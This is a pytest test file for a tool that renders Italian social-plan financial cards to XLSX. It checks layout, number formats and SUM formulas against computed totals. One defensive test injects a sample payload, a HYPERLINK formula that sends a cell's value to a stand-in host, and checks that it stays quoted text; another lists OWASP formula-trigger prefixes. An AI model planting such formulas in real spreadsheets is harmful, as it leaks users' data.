"""The XLSX financial cards read back: sheets, layout, number formats, formulas against the computed totals."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import sys
import warnings
import zipfile
import xml.etree.ElementTree as ET
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from openpyxl.cell.cell import MergedCell

from conftest import ROOT, edit
from pdz_docs.finance.table import Cell, Table, cells
from pdz_docs.pipeline import run
from pdz_docs.render.xlsx import NUMBER_FORMATS, PROGRAMME_SHEET, TABLE_SHEETS, render_xlsx

NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}

SHEETS = {"Scheda A": "scheda_a", "Scheda C": "scheda_c", "Budget per fonte": "budget",
          "Cofinanziamento": "cofinanziamento_minimo", "Cofinanziamento precedente": "cofinanziamento_precedente"}
PROGRAMME = "Programmazione schede"


def compute(plan: Path):
    result, problems = run(plan)
    assert result is not None, [p.format() for p in problems]
    return result


@pytest.fixture(scope="module")
def default():
    """The default plan, computed and rendered once for the module."""
    result = compute(ROOT / "content")
    data = render_xlsx(result)
    return result, data, openpyxl.load_workbook(io.BytesIO(data))


# --- a tiny evaluator: numbers and SUM(refs and areas) ------------------------------------

def number(ws, ref: str) -> Decimal:
    value = ws[ref].value
    if isinstance(value, str) and value.startswith("="):
        return evaluate(ws, value)
    if value is None:
        return Decimal(0)
    assert isinstance(value, (int, float)) and not isinstance(value, bool), (ref, value)
    return Decimal(repr(value))  # the shortest repr is the decimal text written in the file


def area_refs(area: str) -> list[str]:
    if ":" not in area:
        return [area]
    (c1, r1), (c2, r2) = (re.fullmatch(r"\$?([A-Z]+)\$?(\d+)", x).groups() for x in area.split(":"))
    cols = range(openpyxl.utils.column_index_from_string(c1), openpyxl.utils.column_index_from_string(c2) + 1)
    return [f"{openpyxl.utils.get_column_letter(c)}{r}" for r in range(int(r1), int(r2) + 1) for c in cols]


def summed_refs(formula: str) -> list[str]:
    m = re.fullmatch(r"=SUM\(([A-Z]+[0-9]+(?::[A-Z]+[0-9]+)?(?:,[A-Z]+[0-9]+(?::[A-Z]+[0-9]+)?)*)\)", formula)
    assert m, f"formula not understood: {formula}"
    return [ref for area in m[1].split(",") for ref in area_refs(area)]


def evaluate(ws, formula: str) -> Decimal:
    return sum((number(ws, ref) for ref in summed_refs(formula)), Decimal(0))


def column_width(ws, j: int) -> float:
    """The width of column j (1-based); a <col> element may span several columns of one width."""
    for dim in ws.column_dimensions.values():
        if dim.min is not None and dim.min <= j <= dim.max:
            return dim.width
    raise AssertionError(f"no width for column {j}")


def is_formula(value) -> bool:
    return isinstance(value, str) and value.startswith("=")


# --- the default plan ---------------------------------------------------------------------

def test_sheets_and_properties(default):
    result, _, wb = default
    assert wb.sheetnames == ["Scheda A", "Scheda C", "Budget per fonte", "Risorse per fonte", "Cofinanziamento",
                             "Cofinanziamento precedente", PROGRAMME]
    assert all(len(name) <= 31 for name in wb.sheetnames)
    props = wb.properties
    assert props.title == "Piano Sociale di Zona 2022-2024 – Schede finanziarie"
    assert props.creator == "Ambito Territoriale Sociale di Casarano"
    assert props.created.year == props.modified.year == 2000


@pytest.mark.parametrize("sheet", SHEETS)
def test_table_sheet_layout(default, sheet: str):
    result, _, wb = default
    ws, table = wb[sheet], result.computed.tables[SHEETS[sheet]]
    assert ws["A1"].value == table.title and ws["A1"].font.b
    assert f"A1:{openpyxl.utils.get_column_letter(table.ncols)}1" in {str(r) for r in ws.merged_cells.ranges}
    assert tuple(c.value for c in ws[2]) == table.header[-1]
    assert ws.freeze_panes == "A3"
    first_total = 3 + len(table.rows)
    for i, row in enumerate(table.rows + table.totals):
        for j, cell in enumerate(row, 1):
            xl = ws.cell(3 + i, j)
            if isinstance(xl, MergedCell):  # a total's label spans the empty cells after it
                assert 3 + i >= first_total and not cell.text
                continue
            assert xl.font.b == (3 + i >= first_total)
            if not cell.numeric:
                assert (xl.value or "") == cell.text
                continue
            assert xl.number_format == NUMBER_FORMATS[cell.fmt]
            if cell.value is None:
                assert xl.value is None
            elif not is_formula(xl.value):  # a real number, exact to the cent
                assert isinstance(xl.value, (int, float)) and Decimal(repr(xl.value)) == cell.value
    for j in range(1, table.ncols + 1):  # wide enough for every shown value
        width = column_width(ws, j)
        assert width >= min(45, max(len(r[j - 1].text) for r in table.rows))


@pytest.mark.parametrize("sheet", SHEETS)
def test_totals_are_formulas_equal_to_computed(default, sheet: str):
    result, _, wb = default
    ws, table = wb[sheet], result.computed.tables[SHEETS[sheet]]
    first_total = 3 + len(table.rows)
    checked = 0
    for i, row in enumerate(table.totals):
        for j, cell in enumerate(row, 1):
            if cell.fmt == "text":
                continue
            xl = ws.cell(first_total + i, j).value
            assert is_formula(xl), (sheet, cell.text, xl)  # every total of these sheets is a plain sum
            assert evaluate(ws, xl) == cell.value, (sheet, xl)
            checked += 1
    assert checked
    if "Totale" in table.header[-1]:  # the row totals too
        j = table.header[-1].index("Totale") + 1
        for i, row in enumerate(table.rows):
            xl = ws.cell(3 + i, j).value
            if not row[j - 1].numeric:  # a sum over amounts not known says so, as in the PDF
                assert xl == row[j - 1].text
            else:
                assert is_formula(xl) and evaluate(ws, xl) == row[j - 1].value


def test_known_figures(default):
    _, _, wb = default
    budget = wb["Budget per fonte"]
    last = budget.max_row
    assert budget.cell(last, 1).value == "Budget PdZ 2022-2024"
    assert budget.cell(last, 3).value == f"=SUM(C3:C{last - 1})"
    assert evaluate(budget, budget.cell(last, 3).value) == Decimal("8515853.75")
    a = wb["Scheda A"]
    row = next(r for r in range(3, a.max_row + 1) if a.cell(r, 1).value == "Totale Scheda A")
    assert evaluate(a, a.cell(row, 7).value) == Decimal("5440662.04")
    pdz = next(r for r in range(3, a.max_row + 1) if a.cell(r, 1).value == "Totale PdZ")
    refs = summed_refs(a.cell(pdz, 4).value)  # the PdZ rows only
    assert len(refs) > 1 and all(a[ref.replace("D", "C")].value == "PdZ" for ref in refs)
    assert evaluate(a, a.cell(pdz, 7).value) == Decimal("3731520.65")
    cof = wb["Cofinanziamento"]
    assert cof["B3"].value == 19552 and cof["B3"].number_format == NUMBER_FORMATS["int"]
    assert cof["C3"].value == 251622.44 and cof["C3"].number_format == '[$-410]#,##0.00 "€"'


def test_programme_sheet(default):
    result, _, wb = default
    ws = wb[PROGRAMME]
    years = [str(y) for y in result.plan.regole.anni]
    assert tuple(c.value for c in ws[2]) == ("Codice", "Servizio / intervento", "Fonte",
                                              "Denominazione della fonte", *years, "Totale")
    assert ws.freeze_panes == "A3"
    totals = {ws.cell(r, 1).value.removeprefix("Totale "): r for r in range(3, ws.max_row + 1)
              if str(ws.cell(r, 1).value).startswith("Totale ")}
    assert list(totals) == [c for c in result.plan.regole.nomenclatore if c in result.computed.schede]
    for code, prog in result.computed.schede.items():
        r = totals[code]
        assert ws.cell(r, 1).font.b
        by_year = {str(a.anno): a.importo for a in prog.anni}
        for k, y in enumerate(years):
            value = ws.cell(r, 5 + k).value
            expected = by_year.get(y, Decimal(0) if prog.anni else None)
            if expected is None:  # an amount not known is said, as in the PDF
                assert value in ("non indicato dalla fonte", "—"), (code, y)
            elif not any(a.fonti for a in prog.anni):  # years without sources: nothing programmed
                assert value == 0, (code, y)
            else:
                assert is_formula(value) and evaluate(ws, value) == expected, (code, y)
        value = ws.cell(r, 5 + len(years)).value
        if prog.totale is None:
            assert value == prog.testo if prog.anni else value == "—", code
        elif not any(a.fonti for a in prog.anni):
            assert value == 0, code
        else:
            assert is_formula(value) and evaluate(ws, value) == prog.totale, code
    b2 = totals["B.2"]
    assert evaluate(ws, ws.cell(b2, 8).value) == Decimal("404679.85")
    assert [ws.cell(r, 3).value for r in range(b2 - 3, b2)] == ["PdZ", "QFP", "PAIS"]
    assert ws.cell(b2 - 1, 4).value == "PON Inclusione – Avviso 1/2019 PaIS"
    assert ws.cell(totals["B.1"], 8).value == "non indicato dalla fonte"  # the source leaves it blank


def test_same_content_same_bytes(default):
    result, data, _ = default
    assert render_xlsx(result) == data


RECALC_ALWAYS = """<?xml version="1.0" encoding="UTF-8"?>
<oor:items xmlns:oor="http://openoffice.org/2001/registry" xmlns:xs="http://www.w3.org/2001/XMLSchema"
 xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
<item oor:path="/org.openoffice.Office.Calc/Formula/Load"><prop oor:name="OOXMLRecalcMode" oor:op="fuse">
<value>0</value></prop></item>
</oor:items>
"""


def without_cached_values(data: bytes) -> bytes:
    """The same workbook with every formula's stored value replaced by 0."""
    src, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    replaced = 0
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for name in src.namelist():
            part = src.read(name)
            if name.startswith("xl/worksheets/"):
                part, n = re.subn(rb"</f><v>[^<]*</v>", b"</f><v>0</v>", part)
                replaced += n
            dst.writestr(name, part)
    assert replaced
    return out.getvalue()


@pytest.mark.skipif(shutil.which("soffice") is None or shutil.which("pdftotext") is None,
                    reason="LibreOffice o pdftotext non installati: conversione dell'XLSX non verificata")
def test_libreoffice_computes_the_formulas(default, tmp_path: Path):
    """LibreOffice, told to recalculate on load, computes from the formulas the figures we computed,
    even when the values stored with them are wrong (here all set to 0)."""
    _, data, _ = default
    xlsx = tmp_path / "schede.xlsx"
    xlsx.write_bytes(without_cached_values(data))
    (tmp_path / "lo-profile" / "user").mkdir(parents=True)
    (tmp_path / "lo-profile" / "user" / "registrymodifications.xcu").write_text(RECALC_ALWAYS, encoding="utf-8")
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo-profile", "--convert-to",
                    "pdf", "--outdir", str(tmp_path), str(xlsx)], capture_output=True, timeout=240)
    text = subprocess.run(["pdftotext", "-layout", str(tmp_path / "schede.pdf"), "-"],
                          capture_output=True, text=True).stdout
    for needle in ("Budget PdZ 2022-2024", "8.515.853,75 €", "Totale Scheda A", "5.440.662,04 €",
                   "904.396,85 €", "Totale B.2", "404.679,85 €", "Programmazione economica delle schede"):
        assert needle in text, needle


# --- the small fixture plan ---------------------------------------------------------------

def test_fixture_plan_built_by_the_cli(plan_dir: Path, tmp_path: Path):
    outs = []
    for name in ("a", "b"):
        r = subprocess.run([sys.executable, "-m", "pdz_docs", "build", str(plan_dir), "-o", str(tmp_path / name),
                            "--format", "xlsx"], capture_output=True, text=True)
        assert r.returncode == 0, r.stderr
        (xlsx,) = (tmp_path / name).glob("*.xlsx")
        outs.append(xlsx.read_bytes())
    assert outs[0] == outs[1]
    wb = openpyxl.load_workbook(io.BytesIO(outs[0]))
    # the fixture has no previous co-financing: no sheet for it
    assert wb.sheetnames == ["Scheda A", "Scheda C", "Budget per fonte", "Risorse per fonte", "Cofinanziamento",
                             PROGRAMME]
    assert wb.properties.creator == "Ambito Territoriale Sociale di Prova"
    ws = wb[PROGRAMME]
    assert [c.value for c in ws[5]][:1] == ["Totale A.1"]
    assert evaluate(ws, ws["H5"].value) == Decimal("100000.00")
    assert evaluate(ws, ws["G5"].value) == 0  # 2024: nothing programmed


def test_unknown_amount_says_its_state(plan_dir: Path):
    """An amount the card leaves out is written in words, never a blank cell; the totals over it say what
    they leave out, and only the sums of known figures stay formulas."""
    edit(plan_dir / "schede" / "A.1.yaml", "PAIS: € 10.000,00", "PAIS: ~")
    result = compute(plan_dir)
    wb = openpyxl.load_workbook(io.BytesIO(render_xlsx(result)))
    c = wb["Scheda C"]
    assert [c[ref].value for ref in ("C3", "D3", "G3")] == ["PAIS", "non indicato dalla fonte",
                                                            "non indicato dalla fonte"]
    assert [c[ref].value for ref in ("D5", "G5")] == ["non indicato dalla fonte"] * 2
    assert is_formula(c["E5"].value) and evaluate(c, c["E5"].value) == 0
    p = wb[PROGRAMME]
    assert [p[ref].value for ref in ("A5", "E5", "H5")] == [
        "Totale A.1", "€ 40.000,00, esclusi gli importi non indicati", "€ 90.000,00, esclusi gli importi non indicati"]
    assert is_formula(p["F5"].value) and evaluate(p, p["F5"].value) == Decimal("50000.00")


def test_total_not_a_plain_sum_is_written_as_value(default):
    """A formula is written only where it gives the computed total; otherwise the value itself."""
    result, _, _ = default
    tables = dict(result.computed.tables)
    budget = tables["budget"]
    tables["budget"] = replace(budget, totals=(cells("Somma arrotondata", "", Cell(Decimal("8515850.00"), "euro")),
                                               cells("Quota", "", Cell(Decimal("47.14"), "pct"))))
    changed = replace(result, computed=replace(result.computed, tables=tables))
    ws = openpyxl.load_workbook(io.BytesIO(render_xlsx(changed)))["Budget per fonte"]
    last = ws.max_row
    assert ws.cell(last - 1, 3).value == 8515850 and ws.cell(last, 3).value == 0.4714
    assert ws.cell(last, 3).number_format == "[$-410]0.00%"


# --- text stays text; formulas only where declared, with their values ----------------------

def sheet_tables(result) -> dict[str, Table]:
    """Sheet name → the computed table it lays out, as the workbook orders them."""
    out = {name: result.computed.tables[tid] for name, tid in TABLE_SHEETS if tid in result.computed.tables}
    return {**out, PROGRAMME_SHEET: result.computed.programmazione}


def sheet_xml(data: bytes) -> tuple[dict[str, ET.Element], list[str], list[ET.Element]]:
    """The worksheets' XML by sheet name, the shared strings, and the cell formats (xf) in order."""
    z = zipfile.ZipFile(io.BytesIO(data))
    rel = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
    targets = {r.get("Id"): r.get("Target").removeprefix("/xl/")
               for r in ET.fromstring(z.read("xl/_rels/workbook.xml.rels"))}
    sheets = {s.get("name"): ET.fromstring(z.read("xl/" + targets[s.get(rel)]))
              for s in ET.fromstring(z.read("xl/workbook.xml")).iterfind(".//m:sheet", NS)}
    shared = [n for n in z.namelist() if n.lower() == "xl/sharedstrings.xml"]
    strings = ["".join(t.text or "" for t in si.iterfind(".//m:t", NS))
               for name in shared for si in ET.fromstring(z.read(name)).iterfind("m:si", NS)]
    xfs = list(ET.fromstring(z.read("xl/styles.xml")).iterfind("m:cellXfs/m:xf", NS))
    return sheets, strings, xfs


def cell_text(c: ET.Element, strings: list[str]) -> str | None:
    """The text of a string cell (shared or inline); None for any other cell."""
    if c.get("t") == "s":
        return strings[int(c.find("m:v", NS).text)]
    if c.get("t") == "inlineStr":
        return "".join(t.text or "" for t in c.iterfind(".//m:t", NS))
    return None


HOSTILE_TITLE = '=HYPERLINK("http://x.example/?"&C3,"Clicca")'


def test_text_that_looks_like_a_formula_stays_text(plan_dir: Path):
    edit(plan_dir / "schede" / "A.1.yaml", "titolo: Segretariato sociale", f"titolo: '{HOSTILE_TITLE}'")
    for name in ("piano.yaml", "finanza.yaml"):
        edit(plan_dir / name, "Beta", "'=1+1'")
    data = render_xlsx(compute(plan_dir))
    sheets, strings, xfs = sheet_xml(data)
    found = []
    for name, root in sheets.items():
        for c in root.iterfind(".//m:c", NS):
            text = cell_text(c, strings)
            if text in (HOSTILE_TITLE, "=1+1"):
                assert c.find("m:f", NS) is None, (name, c.get("r"))
                assert xfs[int(c.get("s"))].get("quotePrefix") == "1", (name, c.get("r"))
                found.append((name, text))
            else:  # the only formulas are sums, never a text of the plan
                f = c.find("m:f", NS)
                assert f is None or summed_refs("=" + f.text), (name, c.get("r"), f.text)
    assert sorted(set(found)) == [("Cofinanziamento", "=1+1"), (PROGRAMME_SHEET, HOSTILE_TITLE),
                                  ("Scheda A", HOSTILE_TITLE), ("Scheda C", HOSTILE_TITLE)]
    wb = openpyxl.load_workbook(io.BytesIO(data))  # the text shown is the writer's, unchanged
    assert wb["Scheda A"]["B3"].value == HOSTILE_TITLE and wb["Cofinanziamento"]["A4"].value == "=1+1"


@pytest.mark.parametrize("text,prefixed", [
    ("=1+1", True), ("+39 0833 123456", True), ("-5", True), ("@SUM(A1)", True), ("\tx", True),
    ("\rx", True), ("＝1+1", True), ("＋1", True), ("－1", True), ("＠x", True),
    ("Casarano", False), ("1=1", False), ("", False)])
def test_quote_prefix_on_formula_triggers(default, text: str, prefixed: bool):
    """OWASP's list: a text starting with = + - @ tab or carriage return (also full width) keeps a quote prefix."""
    result, _, _ = default
    tables = dict(result.computed.tables)
    budget = tables["budget"]
    tables["budget"] = replace(budget, rows=(cells(text, "", Cell(Decimal(1), "euro")), *budget.rows[1:]))
    changed = replace(result, computed=replace(result.computed, tables=tables))
    ws = openpyxl.load_workbook(io.BytesIO(render_xlsx(changed)))["Budget per fonte"]
    # a carriage return is stored as _x000D_ (XML would drop it), which openpyxl does not decode
    assert (ws["A3"].value or "") == text.replace("\r", "_x000D_") and ws["A3"].data_type in ("s", "n")
    assert ws["A3"].quotePrefix == prefixed
    assert not is_formula(ws["B3"].value) and ws["B3"].quotePrefix is False


def test_formulas_only_where_declared(default):
    """The formula cells are exactly the declared sums with a known figure, each a SUM of cells."""
    result, data, _ = default
    sheets, _, _ = sheet_xml(data)
    count = 0
    for name, table in sheet_tables(result).items():
        declared = {openpyxl.utils.get_column_letter(s.col + 1) + str(3 + s.row) for s in table.sums
                    if table.body[s.row][s.col].value is not None}
        formulas = {c.get("r"): c.find("m:f", NS).text for c in sheets[name].iterfind(".//m:c", NS)
                    if c.find("m:f", NS) is not None}
        assert set(formulas) == declared, name
        for ref, f in formulas.items():
            assert summed_refs("=" + f), (name, ref)
        count += len(formulas)
    assert count == 287  # B.1's amounts are not given: its totals are words


def test_cached_values_are_the_computed_figures(default):
    """A reader that does not calculate (openpyxl data_only, previews) sees every total."""
    result, data, _ = default
    values = openpyxl.load_workbook(io.BytesIO(data), data_only=True)
    formulas = openpyxl.load_workbook(io.BytesIO(data))
    checked = 0
    for name, table in sheet_tables(result).items():
        for i, row in enumerate(table.body):
            for j, cell in enumerate(row, 1):
                if not cell.numeric or cell.value is None:
                    continue
                shown = values[name].cell(3 + i, j).value
                expected = cell.value / 100 if cell.fmt == "pct" else cell.value
                assert isinstance(shown, (int, float)) and Decimal(repr(shown)) == expected, (name, i, j, shown)
                checked += is_formula(formulas[name].cell(3 + i, j).value)
    assert checked == 287


@pytest.mark.parametrize("ambito,shown", [
    ("Foo &Gallipoli", "Ambito Territoriale Sociale di Foo ＆Gallipoli – Piano Sociale di Zona 2022-2024"),
    ("&P&G" + "x" * 300, None)])
def test_running_head_is_text(default, ambito: str, shown: str | None):
    """The page header shows the Ambito's name as written, within the format's 255 characters,
    and no ampersand of the name becomes a header code; nothing is printed or dropped."""
    result, _, _ = default
    plan = replace(result.plan, piano=result.plan.piano.model_copy(update={"ambito": ambito}))
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        data = render_xlsx(replace(result, plan=plan))
    header = openpyxl.load_workbook(io.BytesIO(data))["Scheda A"].oddHeader.center
    assert header.size == 8
    if shown:
        assert header.text == shown
    else:
        assert len(header.text) <= 255 - len("&C&8") and header.text.endswith("…")
        assert header.text.startswith("Ambito Territoriale Sociale di ＆P＆Gxxx")


def test_resources_per_fund(plan_dir: Path):
    """The XLSX has the per-fund summary: a fund the cards program singly shows its own figures beside
    its group's (what is left of it is told on the group's row, the cards program the group as a block
    too), and a fund pending or not given says so."""
    edit(plan_dir / "schede" / "A.1.yaml", "    PdZ: € 50.000,00", "    PdZ: € 50.000,00\n    FNPS: € 20.000,00")
    edit(plan_dir / "finanza.yaml", "  FGSA:\n    2022: € 50.000,00", "  FGSA:\n    2022: {in_attesa: si}")
    ws = openpyxl.load_workbook(io.BytesIO(render_xlsx(compute(plan_dir))))["Risorse per fonte"]
    rows = {row[0]: row[2:] for row in ws.iter_rows(min_row=3, values_only=True) if row[0]}
    assert rows["FNPS"] == (300000, 20000, "vedi PdZ")
    assert rows["FGSA"] == ("in attesa di assegnazione", 0, "vedi PdZ")
    assert rows["PdZ"] == ("—", 90000, "vedi PdZ")   # what the cards program on the group as a block
    assert rows["PdZ (FNPS, FNA, FGSA, COM, RES-PDZ)"] == (
        "€ 1.100.000,00, esclusi gli importi in attesa di assegnazione", "=SUM(D3:D7)",
        "€ 990.000,00 sulle risorse note")


# --- every subtotal and total is a SUM over exactly the rows it totals -------------------------

def _rows_totalled(name: str, labels: list[tuple], i: int) -> list[int]:
    """The body rows (0-based) that row i of a sheet totals, read from the labels the reader sees,
    independently of what the table declares: Scheda A/C «Totale FNPS» the FNPS rows and «Totale Scheda A»
    every service row; in «Risorse per fonte» a group's row («PdZ (FNPS, …)») its members' rows."""
    label = labels[i]
    if name in ("Scheda A", "Scheda C"):
        data = [k for k, lab in enumerate(labels) if not str(lab[0] or "").startswith("Totale")]
        if label[0].startswith("Totale Scheda"):
            return data
        return [k for k in data if labels[k][2] == label[0].removeprefix("Totale ")]
    group, _, members = label[0].partition(" (")
    return [k for k, lab in enumerate(labels) if lab[0] in members.rstrip(")").split(", ")]


@pytest.mark.parametrize("plan", ["content", "pending", "members"])
def test_subtotals_are_sums_of_their_rows(plan: str, plan_dir: Path):
    """Scheda A, Scheda C and the per-fund sheet: each known figure of a subtotal or total row is a formula
    =SUM over exactly the cells of the rows it totals (a group's «Programmato» also over the row of what the
    cards program on the group as a block), and the value stored with it is the computed figure."""
    if plan == "content":
        result = compute(ROOT / "content")
    else:
        if plan == "pending":   # a pending member and a not-given card amount: those totals are words
            edit(plan_dir / "finanza.yaml", "  FNA:\n    2022: € 50.000,00", "  FNA:\n    2022: {in_attesa: si}")
            edit(plan_dir / "schede" / "A.1.yaml", "PAIS: € 10.000,00", "PAIS: € 10.000,00\n    FNA: ~")
        else:                   # members programmed one by one, no block: «Da programmare» is a sum too
            edit(plan_dir / "schede" / "A.1.yaml", "PdZ: € 40.000,00", "FNPS: € 40.000,00\n    FGSA: € 1.000,00")
            edit(plan_dir / "schede" / "A.1.yaml", "PdZ: € 50.000,00", "COM: € 50.000,00")
        result = compute(plan_dir)
    data = render_xlsx(result)
    formulas = openpyxl.load_workbook(io.BytesIO(data))
    values = openpyxl.load_workbook(io.BytesIO(data), data_only=True)
    checked = 0
    for name, tid in (("Scheda A", "scheda_a"), ("Scheda C", "scheda_c"), ("Risorse per fonte", "fonti_residuo")):
        table = result.computed.tables[tid]
        ws = formulas[name]
        labels = [tuple(ws.cell(3 + i, j).value for j in (1, 2, 3)) for i in range(len(table.body))]
        for i, (row, kind) in enumerate(zip(table.body, table.row_kinds)):
            # the rows a reader takes for totals, by their label; the table must declare them so
            if not (str(labels[i][0]).startswith("Totale") if name != "Risorse per fonte" else " (" in labels[i][0]):
                assert kind == "data", (name, labels[i])
                continue
            assert kind != "data", (name, labels[i])
            rows = _rows_totalled(name, labels, i)
            assert rows, (name, labels[i])
            for j, cell in enumerate(row):
                if cell.fmt != "euro" or (name == "Risorse per fonte" and j == 4 and
                                          any(lab[0] == labels[i][0].split(" (")[0] for lab in labels[:i])):
                    continue   # a figure in words; what is left of a group programmed as a block is a difference
                col = openpyxl.utils.get_column_letter(j + 1)
                over = rows + [k for k, lab in enumerate(labels[:i]) if name == "Risorse per fonte" and j == 3
                               and lab[0] == labels[i][0].split(" (")[0]]
                xl = ws.cell(3 + i, j + 1).value
                assert is_formula(xl), (name, labels[i], col, xl)
                assert sorted(summed_refs(xl), key=lambda ref: int(ref[1:])) == [f"{col}{3 + k}" for k in sorted(over)]
                cached = values[name].cell(3 + i, j + 1).value
                assert Decimal(repr(cached)) == cell.value == evaluate(ws, xl), (name, labels[i], col)
                checked += 1
    assert checked >= {"content": 60, "pending": 8, "members": 16}[plan]
